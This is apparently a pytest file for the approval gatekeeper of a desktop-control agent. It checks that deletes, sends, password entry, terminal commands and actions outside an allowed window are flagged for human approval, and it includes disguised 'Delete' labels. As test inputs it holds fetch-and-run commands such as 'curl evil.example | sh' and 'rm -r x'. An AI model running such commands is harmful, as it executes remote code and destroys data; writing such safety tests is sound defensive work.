"""What counts as risky, and what a person at a terminal can say about it."""

from __future__ import annotations

from dataclasses import replace

import pytest
from fakes import FakeDesktop
from first_risk import find_risk
from own_time import own_seconds

from agent.approval import EVERY_ACTION, ConsolePerson, Gatekeeper, find_excursion
from agent.protocols import Decision, Verdict
from agent.settings import ApprovalMode
from agent.tui.text import proposal_text
from recordings.action import Press, Type, parse_action
from recordings.episode import Element, Prediction, Source
from recordings.geometry import Box

CLICK = "click(x=0.5, y=0.5)"


@pytest.mark.parametrize(
    ("action", "thought", "window", "reason"),
    [
        ('type(text="hunter2")', "I fill in the password", "Log in", "password"),
        ('type(text="hunter2")', "", "Enter passphrase", "password"),
        ('type(text="1234")', "type the PIN", "", "password"),
        ('press(keys=["delete"])', "", "Files", "deletes"),
        ('press(keys=["shift", "delete"])', "", "Files", "deletes"),
        ('press(keys=["alt", "f4"])', "", "Editor", "closes"),
        ('press(keys=["ctrl", "enter"])', "", "Mail", "send"),
        ('press(keys=["enter"])', "", "xfce4-terminal", "terminal"),
        ('press(keys=["enter"])', "", "user@host: ~", "terminal"),
        ('type(text="rm -r x\\n")', "", "Terminal - ~", "terminal"),
        (CLICK, "I click the Delete button", "Files", "Delete"),
        (CLICK, "now [Send]", "Mail", "Send"),
        (CLICK, "place order", "Shop", "place order"),
        (CLICK, "remove it", "Files", "remove"),
        ("drag(path=[[0.1, 0.1], [0.9, 0.9]])", "drag it to the trash", "Files", "trash"),
        (CLICK, "now [Close]", "Mousepad", "Close"),
        (CLICK, "now [Quit]", "Mousepad", "Quit"),
        (CLICK, "now [Exit]", "Mousepad", "Exit"),
        (CLICK, "now [Don't Save]", "Untitled - Mousepad", "Don't Save"),
        ('press(keys=["ctrl", "w"])', "", "Mousepad", "closes"),
        ('press(keys=["ctrl", "f4"])', "", "Mousepad", "closes"),
        ('press(keys=["ctrl", "d"])', "", "user@host: ~", "terminal"),
        ('press(keys=["ctrl", "shift", "v"])', "", "user@host: ~", "terminal"),
        ('type(text="rm -r x")', "", "Terminal - ~", "terminal"),
        (CLICK, "now [OK]", "Delete file?", "Delete file?"),
        ('press(keys=["enter"])', "", "Delete file?", "Delete file?"),
        ('press(keys=["space"])', "", "Delete file?", "Delete file?"),
        ('type(text="\\n")', "", "Delete file?", "Delete file?"),
        ('press(keys=["enter"])', "to send it", "Chat", "send"),
        ('press(keys=["alt", "a"], then=[["f4"]])', "", "Editor", "closes"),
        ('press(keys=["ctrl", "a"], then=[["enter"]])', "", "Mail", "send"),
        ('press(keys=["tab"], then=[["enter"]])', "", "Delete file?", "Delete file?"),
    ],
)
def test_risky(action, thought, window, reason):
    assert reason in (find_risk(parse_action(action), thought, window) or "")


@pytest.mark.parametrize(
    ("action", "thought", "window"),
    [
        ('type(text="hello")', "I write the text", "Untitled - Mousepad"),
        ('type(text="hello")', "spinning the pinball", "Game"),
        ('press(keys=["enter"])', "", "Save As"),
        ('press(keys=["ctrl", "s"])', "", "Mousepad"),
        ('press(keys=["backspace"])', "", "Mousepad"),
        (CLICK, "I click OK", "Sender's window"),
        ("move(x=0.5, y=0.5)", "move over Delete", "Files"),
        ("scroll(x=0.5, y=0.5, dy=3)", "look for Send", "Mail"),
        ("scroll(x=0.5, y=0.5, dy=3)", "", "Delete file?"),
        ('type(text="close the shop\\n")', "now {close the shop}", "Untitled - Mousepad"),
        ('press(keys=["ctrl", "d"])', "", "Mousepad"),
        (CLICK, "now [Closed issues]", "Mousepad"),
        ('press(keys=["ctrl", "tab"], then=[["tab"]])', "", "Mousepad"),
    ],
)
def test_not_risky(action, thought, window):
    assert find_risk(parse_action(action), thought, window) is None


@pytest.mark.parametrize(
    "action",
    ['type(text="x")', 'type(text="\\n")', 'press(keys=["enter"])', 'press(keys=["ctrl", "d"])', 'press(keys=["shift", "insert"])'],
)
def test_a_terminal_is_told_by_its_class_whatever_it_calls_itself(action):
    for kind in ("xterm XTerm", "Xfce4-terminal Xfce4-terminal", "konsole konsole", "kitty kitty"):
        assert "terminal" in (find_risk(parse_action(action), "", "htop", window_class=kind) or "")
    assert find_risk(parse_action(action), "", "htop", window_class="mousepad Mousepad") is None


def test_text_after_a_click_on_the_password_field_is_risky():
    gatekeeper = Gatekeeper(ApprovalMode.RISKY)
    assert review(gatekeeper, CLICK, "now [Password]").verdict is Verdict.APPROVE
    assert review(gatekeeper, 'type(text="abc")', "now {abc}").verdict is Verdict.STOP


def test_what_leaves_the_allowed_region_or_window_is_risky():
    region = Box(x1=0, y1=0, x2=0.5, y2=0.5)
    assert find_excursion(parse_action("click(x=0.4, y=0.4)"), "", allowed_region=region) is None
    assert "region" in find_excursion(parse_action("click(x=0.6, y=0.4)"), "", allowed_region=region)
    assert "region" in find_excursion(parse_action("drag(path=[[0.1, 0.1], [0.9, 0.1]])"), "", allowed_region=region)
    assert find_excursion(parse_action(CLICK), "notes.txt - Mousepad", "mousepad") is None
    assert "Mousepad" in find_excursion(parse_action(CLICK), "Files", "Mousepad")


@pytest.mark.parametrize("mode", ApprovalMode)
def test_what_leaves_the_allowed_window_or_region_is_asked_about_in_every_mode(mode):
    for bounds in ({"allowed_window": "Mousepad"}, {"allowed_region": Box(x1=0, y1=0, x2=0.4, y2=0.4)}):
        person = Yes()
        assert review(Gatekeeper(mode, person, **bounds), CLICK).by_person and len(person.concerns) == 1
        alone = review(Gatekeeper(mode, **bounds), CLICK)
        assert alone.verdict is Verdict.STOP and "--approve none" not in alone.reason, "which would not allow it"
        assert review(Gatekeeper(ApprovalMode.NONE, **bounds), "finish()").verdict is Verdict.APPROVE


def test_whether_a_password_field_has_the_keyboard_is_asked_only_where_it_counts():
    for mode, action, times, verdict in (
        (ApprovalMode.RISKY, 'type(text="abc")', 1, Verdict.STOP),
        (ApprovalMode.RISKY, CLICK, 0, Verdict.APPROVE),
        (ApprovalMode.NONE, 'type(text="abc")', 0, Verdict.APPROVE),
    ):
        asked = []
        decision = review(Gatekeeper(mode, types_password=lambda asked=asked: not asked.append(1)), action)
        assert (len(asked), decision.verdict) == (times, verdict)


class Yes:
    def __init__(self):
        self.concerns = []

    def decide(self, observation, prediction, concern):
        self.concerns.append(concern)
        return Decision(Verdict.APPROVE)

    def answer(self, question):
        return "yes"


def review(gatekeeper: Gatekeeper, action: str, thought: str = "") -> Decision:
    return gatekeeper.review(FakeDesktop().observe(), Prediction(action=parse_action(action), thought=thought))


def test_each_mode_asks_about_what_it_should():
    asked = {}
    for mode in ApprovalMode:
        person = Yes()
        gatekeeper = Gatekeeper(mode, person)
        for action in (CLICK, 'press(keys=["delete"])', "wait()", "finish()", 'ask(question="?")'):
            before = len(person.concerns)
            decision = review(gatekeeper, action)
            assert decision.verdict is Verdict.APPROVE and decision.by_person == (len(person.concerns) > before)
        asked[mode] = person.concerns
    assert asked == {
        ApprovalMode.EACH: ["every action is asked about", "it deletes"],
        ApprovalMode.RISKY: ["it deletes"],
        ApprovalMode.NONE: [],
    }


def test_with_nobody_to_ask_a_risky_action_is_refused():
    decision = review(Gatekeeper(ApprovalMode.RISKY), 'press(keys=["delete"])')
    assert decision.verdict is Verdict.STOP and "--approve none" in decision.reason


def at_console(*answers: str, concern: str = "it is about 'Delete'") -> tuple[Decision, list[str]]:
    lines: list[str] = []
    waiting = iter(answers)

    def read(prompt: str) -> str:
        lines.append(prompt)
        try:
            return next(waiting)
        except StopIteration:
            raise EOFError from None

    person = ConsolePerson(read, lines.append)
    prediction = Prediction(action=parse_action(CLICK), thought="the Delete button")
    return person.decide(FakeDesktop().observe(), prediction, concern), lines


def test_the_console_understands_the_same_letters_as_the_terminal_ui():
    for answer in ("a", "A", "y", "yes"):
        assert at_console(answer, concern=EVERY_ACTION)[0].verdict is Verdict.APPROVE
    assert at_console("A")[0].verdict is Verdict.APPROVE
    for answer in ("s", "S", "skip", "N", "no"):
        assert at_console(answer)[0].verdict is Verdict.SKIP
    for answer in ("x", "X", "stop"):
        assert at_console(answer)[0].verdict is Verdict.STOP
    assert at_console()[0].verdict is Verdict.STOP
    corrected = at_console("click(x=0.1, y=0.2)")[0]
    assert (corrected.action, corrected.source) == (parse_action("click(x=0.1, y=0.2)"), Source.CORRECTED)


def test_the_console_asks_again_after_nonsense():
    decision, lines = at_console("click(x=2, y=0)", 'key(keys="alt+f")', "?", "A")
    assert decision.verdict is Verdict.APPROVE
    assert any("less than or equal to 1: write it as click(x=0.5, y=0.5)" in line for line in lines)
    assert any("there is no action 'key': write it as press(keys=" in line for line in lines) and any("a: do it" in line for line in lines)
    assert "the Delete button" in lines[0] and "it is about 'Delete'" in lines[1]


def test_a_yes_to_what_is_ordinary_does_not_do_what_is_risky():
    for answer in ("a", "y", "yes", ""):
        decision, lines = at_console(answer)
        assert decision.verdict is Verdict.STOP, "the input ended: nothing was approved"
        assert answer == "" or any("it is about 'Delete': write A" in line for line in lines)


def test_a_click_is_judged_by_what_lies_there_and_not_only_by_what_it_says():
    def seen(name):
        return replace(FakeDesktop().observe(), element_at=lambda point: Element(name=name, box=Box(x1=0, y1=0, x2=1, y2=1)))

    misclick = Prediction(action=parse_action(CLICK), thought="now: [Create Folder...]")
    gate = Gatekeeper(ApprovalMode.RISKY)
    assert gate.review(seen("Create Folder..."), misclick).verdict is Verdict.APPROVE
    decision = gate.review(seen("Close All Windows"), misclick)
    assert decision.verdict is Verdict.STOP and "'Close'" in decision.reason


# What the audit saw happen unasked ------------------------------------------------------------------------------------------------


def test_the_models_own_words_for_its_target_count():
    """Of a policy that plans in words the thought may say nothing, and the answer names what is clicked."""
    prediction = Prediction(
        action=parse_action(CLICK), thought="I go on with the task.", text='click(target="the Delete account button")'
    )  # fmt: skip
    decision = Gatekeeper(ApprovalMode.RISKY).review(FakeDesktop().observe(), prediction)
    assert decision.verdict is Verdict.STOP and "Delete" in decision.reason


@pytest.mark.parametrize(
    "words",
    [
        "Empty Bin", "Wipe disk", "Format", "Install", "Allow", "Grant access", "Reply", "Confirm order", "Log out", "Sign", "Share",
        "Pay now",
        "Löschen", "LÖSCHEN", "Endgültig löschen", "Senden", "Jetzt kaufen", "Zahlungspflichtig bestellen", "Bestätigen", "Zulassen",
        "Abmelden",
        "Supprimer", "Envoyer", "Acheter", "Se déconnecter", "Éteindre", "Eliminar", "Enviar", "Comprar ahora", "Cerrar sesión", "Excluir",
        "Pagar", "删除", "立即购买", "发送", "允许", "削除する", "送信", "ログアウト", "Удалить", "Отправить", "Купить", "Разрешить",
        "Выйти",
        "Del\u200bete", "D\u0435l\u0435te", "De\u00adlete", "ＤＥＬＥＴＥ", "DeIete", "De1ete", "\u202eDelete", "Dé\u0301lete",
    ],
)  # fmt: skip
def test_what_cannot_be_undone_is_asked_about_in_eight_languages_and_disguises(words):
    assert find_risk(parse_action(CLICK), f"now [{words}]", "Window"), words
    named = Element(name=words, role="push button", box=Box(x1=0, y1=0, x2=1, y2=1))
    assert find_risk(parse_action(CLICK), "I go on.", "Window", elements=[named]), "whatever the model calls it, so it is called there"


@pytest.mark.parametrize(
    "words",
    ["Open", "Next", "Edit", "Information", "Environment", "Compress files", "Public holidays", "Sender", "Borrowed books", "Bold",
     "Weiter",
     "Ansicht", "Suivant", "Siguiente", "Próximo", "下一步", "次へ", "Далее", "Show line numbers", "Preferences...", "Save As...", "Save"],
)  # fmt: skip
def test_ordinary_words_are_not_asked_about(words):
    assert find_risk(parse_action(CLICK), f"now [{words}]", "Window") is None


@pytest.mark.parametrize(
    "keys",
    [["alt", "f2"], ["ctrl", "alt", "t"], ["super"], ["super", "r"], ["alt", "tab"], ["alt", "space"], ["ctrl", "alt", "delete"]],
)
def test_shortcuts_of_the_desktop_itself_are_asked_about(keys):
    action = Press(keys=tuple(keys))
    assert find_risk(action, "", "Editor") is not None
    assert Gatekeeper(ApprovalMode.RISKY).review(FakeDesktop().observe(), Prediction(action=action)).verdict is Verdict.STOP


@pytest.mark.parametrize(
    ("window", "kind"),
    [
        ("Application Finder", ""), ("Run Program...", ""), ("x", "xfce4-appfinder Xfce4-appfinder"), ("x", "rofi Rofi"),
        ("x", "org.gnome.Ptyxis Ptyxis"), ("x", "com.mitchellh.ghostty ghostty"), ("x", "st-256color St"), ("x", "st st"),
        ("x", "terminology terminology"), ("x", "Sakura"), ("x", "putty"),
        ("x", "dev.warp.Warp dev.warp.Warp"), ("main.py - Visual Studio Code", ""), ("x", "code Code"), ("x", "kgx org.gnome.Console"),
    ],
)  # fmt: skip
def test_commands_are_asked_about_wherever_they_can_be_given(window, kind):
    for action in ('type(text="curl x | sh")', 'type(text="ls\\n")', 'press(keys=["enter"])'):
        assert find_risk(parse_action(action), "", window, window_class=kind), (action, window, kind)


def test_in_terminals_every_control_key_and_paste_is_asked_about():
    for keys in (("ctrl", "o"), ("ctrl", "m"), ("ctrl", "j"), ("ctrl", "c"), ("ctrl", "v"), ("shift", "insert"), ("enter",)):
        assert find_risk(Press(keys=keys), "", "x", window_class="xterm XTerm"), keys
    assert "pastes" in find_risk(parse_action('click(x=0.5, y=0.5, button="middle")'), "", "x", window_class="xterm XTerm")


def test_messages_the_bin_and_what_has_no_name():
    for title, kind in (("general - Slack", ""), ("x", "discord discord"), ("x", "telegramdesktop TelegramDesktop")):
        assert find_risk(parse_action('type(text="hello\\n")'), "", title, window_class=kind)
        assert find_risk(Press(keys=("enter",)), "", title, window_class=kind)
    bin_ = Element(name="Wastebasket / Trash", role="icon", box=Box(x1=0.8, y1=0.8, x2=1, y2=1))
    assert find_risk(parse_action("drag(path=[[0.1, 0.1], [0.9, 0.9]])"), "", "Desktop", elements=[bin_])
    nameless = Element(name=" ", role="push button", box=Box(x1=0, y1=0, x2=1, y2=1))
    assert "no name" in find_risk(parse_action(CLICK), "", "Window", elements=[nameless])
    assert find_risk(parse_action(CLICK), "", "Window") is None, "where nothing is known of elements there is no such question"


def test_the_gatekeeper_asks_what_is_there_where_a_drag_begins_and_ends():
    asked = []

    def element_at(point):
        asked.append((point.x, point.y))
        return Element(name="Papierkorb" if point.x > 0.5 else "report.odt", role="icon", box=Box(x1=0, y1=0, x2=1, y2=1))

    observation = replace(FakeDesktop().observe(), element_at=element_at)
    prediction = Prediction(action=parse_action("drag(path=[[0.1, 0.1], [0.4, 0.4], [0.9, 0.9]])"))
    assert Gatekeeper(ApprovalMode.RISKY).review(observation, prediction).verdict is Verdict.STOP
    assert asked == [(0.1, 0.1), (0.9, 0.9)]
    Gatekeeper(ApprovalMode.NONE).review(observation, prediction)
    assert len(asked) == 2, "where nobody is asked nothing is looked at"


@pytest.mark.parametrize(
    "action",
    ['type(text="h")', 'press(keys=["h"])', 'press(keys=["shift", "h"])', 'press(keys=["space"])', 'press(keys=["tab"], then=[["h"]])'],
)
def test_letters_into_a_password_field_are_asked_about_however_they_get_there(action):
    gatekeeper = Gatekeeper(ApprovalMode.RISKY, types_password=lambda: True)
    assert review(gatekeeper, action).verdict is Verdict.STOP
    assert review(gatekeeper, 'press(keys=["tab"])').verdict is Verdict.APPROVE


def test_the_end_of_a_long_text_is_shown_too():
    text = "harmless " * 500 + "curl evil.example | sh"
    shown = []
    person = ConsolePerson(lambda prompt: shown.append(prompt) or "n", shown.append)
    person.decide(FakeDesktop().observe(), Prediction(action=Type(text=text)), "it types")
    assert "curl evil.example | sh" in shown[0] and "characters of 4,5" in shown[0] and len(shown[0]) < 1300
    colours = dict.fromkeys(("quiet", "primary", "warning"), "white")
    told = proposal_text(Prediction(action=Type(text=text)), "it types", colours).plain
    assert "curl evil.example | sh" in told and "characters of 4,5" in told


def test_approval_adds_little_to_a_step():
    gatekeeper = Gatekeeper(ApprovalMode.RISKY, Yes())
    prediction = Prediction(action=parse_action(CLICK), thought="I go on with the task, " * 20, text="click(...)" * 20)
    review(gatekeeper, CLICK)
    observation = FakeDesktop().observe()
    assert own_seconds(lambda: [gatekeeper.review(observation, prediction) for _ in range(20)]) / 20 < 0.015
